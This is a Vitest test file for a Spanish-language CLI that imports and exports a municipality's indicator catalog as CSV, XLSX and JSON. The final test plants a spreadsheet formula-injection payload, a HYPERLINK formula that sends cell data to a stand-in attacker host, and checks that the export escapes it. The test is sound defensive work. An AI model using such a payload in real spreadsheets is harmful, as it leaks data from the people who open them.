import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openMigratedDatabase } from '../../db/client.ts';
import { main } from '../../src/cli/main.ts';
import { clockAtBogotaDate } from '../../src/domain/clock.ts';
import { personByEmail } from '../../src/domain/directory/people.ts';
import { recordReport } from '../../src/domain/indicators/reports.ts';
import { catalogColumns } from '../../src/domain/indicators/sheet.ts';
import { catalogLoadedOn } from '../domain/indicators/catalog-date.ts';
import { capture } from '../helpers/cli.ts';

const LINK = 'https://intranet.pasto.gov.co/indicadores/gth-01.xlsx';

async function run(...argv: string[]) {
  const c = capture();
  const code = await main(argv, c.io);
  return { code, out: c.out.join('\n'), err: c.err.join('\n'), written: c.written.join(''), logs: c.logs };
}

const exportJson = async (...extra: string[]) =>
  JSON.parse(
    (await run('exportar', 'indicadores', '--formato', 'json', '--fecha', '2026-10-20', ...extra)).written,
  );

/**
 * The first run loads the example catalog (on the real clock), dated here 1 January so 2026-T3 is
 * owed; then the leader reports GTH-01 2026-T3 on 20 October (`chat --fecha` would only look).
 */
async function reportGth01(analysis = '') {
  await run('exportar', 'indicadores', '--formato', 'json');
  const db = openMigratedDatabase(process.env.MIPG_DB ?? '');
  try {
    catalogLoadedOn(db);
    const leader = personByEmail(db, 'lider.gth@ejemplo.pasto.gov.co');
    if (!leader) throw new Error('no leader');
    recordReport(db, clockAtBogotaDate('2026-10-20'), leader, {
      code: 'GTH-01',
      period: '2026-T3',
      measure: { numerator: 45, denominator: 50 },
      analysis,
      evidence: LINK,
    });
  } finally {
    db.$client.close();
  }
}

describe('npx mipg importar/exportar indicadores', () => {
  let dir: string;
  const saved = { ...process.env };
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'mipg-ind-'));
    process.env.MIPG_DB = join(dir, 'mipg.db');
  });
  afterEach(() => {
    process.env = { ...saved };
  });

  it('imports a sheet, updates by code on a second import and refuses bad rows by line and column', async () => {
    const file = join(dir, 'indicadores.csv');
    const row = (meta: string) =>
      `PRU-01,GTH,Servidores capacitados,,eficacia,,Capacitados,Servidores,porcentaje,creciente,trimestral,,${meta},60,80,10,Talento Humano`;
    writeFileSync(file, [catalogColumns.join(','), row('90')].join('\n'));
    const first = await run('importar', 'indicadores', file);
    expect(first).toMatchObject({ code: 0 });
    expect(first.out).toContain('Indicadores importados: 1 nuevos, 0 actualizados, 0 sin cambios.');
    // One log line, apart from the report the person reads: what, counts and who, never the rows.
    expect(first.logs.filter((e) => e.kind === 'indicadores')).toEqual([
      expect.objectContaining({
        level: 'info',
        msg: 'Importación de indicadores hecha.',
        file: 'indicadores.csv',
        added: 1,
        changed: 0,
        unchanged: 0,
        personId: null,
        outcome: 'imported',
      }),
    ]);
    expect(JSON.stringify(first.logs)).not.toContain('Servidores capacitados');
    expect(first.out).not.toContain('Importación de indicadores hecha.');
    writeFileSync(file, [catalogColumns.join(','), row('95')].join('\n'));
    expect((await run('importar', 'indicadores', file)).out).toContain('Actualizado PRU-01: meta.');

    writeFileSync(
      file,
      [catalogColumns.join(','), row('100'), row('cien').replace('PRU-01', 'PRU-02')].join('\n'),
    );
    const bad = await run('importar', 'indicadores', file);
    expect(bad.code).toBe(1);
    expect(bad.err).toContain('El archivo tiene 1 problema; no se importó nada:');
    expect(bad.err).toContain('• Línea 3, columna meta: «cien» no es un número.');
    expect(bad.logs.filter((e) => e.kind === 'indicadores')).toEqual([
      expect.objectContaining({ msg: 'Importación de indicadores rechazada.', reason: 'rule' }),
    ]);
    const stored = (await exportJson()).filter((r: { indicator: string }) => r.indicator.startsWith('PRU'));
    const targets = new Set(
      stored.map((r: { indicator: string; target: number }) => `${r.indicator} ${r.target}`),
    );
    expect([...targets]).toEqual(['PRU-01 95']);
  });

  it('exports the consolidated matrix in JSON with the report of each period', async () => {
    await reportGth01();
    const rows = await exportJson('--periodo', '2026-T3');
    expect(rows.every((r: { period: string }) => r.period === '2026-T3')).toBe(true);
    const gth = rows.find((r: { indicator: string }) => r.indicator === 'GTH-01');
    expect(gth).toMatchObject({
      indicator: 'GTH-01',
      process: 'GTH',
      period: '2026-T3',
      dueDate: '2026-10-15',
      state: 'reportado',
      numerator: 45,
      denominator: 50,
      result: 90,
      target: 95,
      compliance: 94.74,
      status: 'satisfactorio',
      analysis: '',
      evidence: LINK,
      reportedBy: 'lider.gth@ejemplo.pasto.gov.co',
    });
    expect(new Date(gth.reportedAt).toISOString()).toBe(gth.reportedAt);
    const missing = rows.find((r: { indicator: string }) => r.indicator === 'AC-02');
    expect(missing).toMatchObject({ state: 'atrasado', result: null, status: null, reportedBy: null });
    const all = await exportJson();
    expect(new Set(all.map((r: { indicator: string }) => r.indicator)).size).toBe(61);
    expect(all.find((r: { indicator: string }) => r.indicator === 'GE-01')).toMatchObject({ period: null });

    const wrong = await run('exportar', 'indicadores', '--formato', 'json', '--periodo', '2026-T9');
    expect(wrong.code).toBe(1);
    expect(wrong.err).toContain('--periodo «2026-T9» no es un periodo válido.');
  });

  it.each(['csv', 'xlsx'])('round-trips the %s export through the importer', async (format) => {
    await reportGth01();
    const file = join(dir, `matriz.${format}`);
    expect(
      (await run('exportar', 'indicadores', '--formato', format, '--salida', file, '--fecha', '2026-10-20'))
        .code,
    ).toBe(0);
    if (format === 'csv') {
      const header = readFileSync(file, 'utf8').split('\n')[0] ?? '';
      expect(header.startsWith(`${catalogColumns.join(',')},periodo,fecha_limite,estado,`)).toBe(true);
      expect(readFileSync(file, 'utf8')).toContain(
        `2026-T3,2026-10-15,reportado,45,50,,90,95,94.74,satisfactorio,,${LINK}`,
      );
    }
    const changed = join(dir, 'cambio.csv');
    writeFileSync(
      changed,
      `${catalogColumns.join(',')}\nGTH-01,GTH,Otro nombre,,eficacia,,a,b,porcentaje,creciente,mensual,,50,10,20,3,`,
    );
    expect((await run('importar', 'indicadores', changed)).out).toContain(
      'Indicadores de ejemplo retirados (sus procesos ya tienen catálogo real): GTH-02, GTH-03.',
    );
    const back = await run('importar', 'indicadores', file);
    expect(back.code).toBe(0);
    // The real GTH-01 had retired the unreported GTH-02 and GTH-03 examples; the exported matrix brings
    // them back, and importing it as the real catalog turns every example into a real indicator.
    expect(back.out).toContain('2 nuevos, 59 actualizados, 0 sin cambios.');
    expect(back.out).toContain('Nuevos: GTH-02, GTH-03.');
    const gth = (await exportJson()).find((r: { indicator: string }) => r.indicator === 'GTH-01');
    expect(gth).toMatchObject({
      name: 'Cumplimiento del plan de capacitación',
      frequency: 'trimestral',
      target: 95,
    });
  });

  it('protects formula-like text in the CSV export and reads it back unchanged', async () => {
    const injection = '=HYPERLINK("http://evil.example/?d="&A1,"clic")';
    await reportGth01(injection);
    const sheet = join(dir, 'propio.csv');
    const formula = '=Capacitados/Servidores*100';
    writeFileSync(
      sheet,
      `${catalogColumns.join(',')}\nPRU-01,DE,+Servidores capacitados,,eficacia,${formula},Capacitados,Servidores,porcentaje,creciente,trimestral,,90,60,80,10,`,
    );
    expect((await run('importar', 'indicadores', sheet)).code).toBe(0);
    const file = join(dir, 'matriz.csv');
    await run('exportar', 'indicadores', '--formato', 'csv', '--salida', file, '--fecha', '2026-10-20');
    const text = readFileSync(file, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""clic"")"`);
    expect(text).toContain(`,'+Servidores capacitados,`);
    expect(text).toContain(`,'${formula},`);
    expect(text).not.toMatch(/(^|,)"?[=+@]/m);

    const back = await run('importar', 'indicadores', file);
    expect(back.code).toBe(0);
    expect(back.out).not.toContain('PRU-01');
    const pru = (await exportJson()).find((r: { indicator: string }) => r.indicator === 'PRU-01');
    expect(pru).toMatchObject({ name: '+Servidores capacitados' });
    const gth = (await exportJson('--periodo', '2026-T3')).find(
      (r: { indicator: string }) => r.indicator === 'GTH-01',
    );
    expect(gth).toMatchObject({ analysis: injection });
  });
});
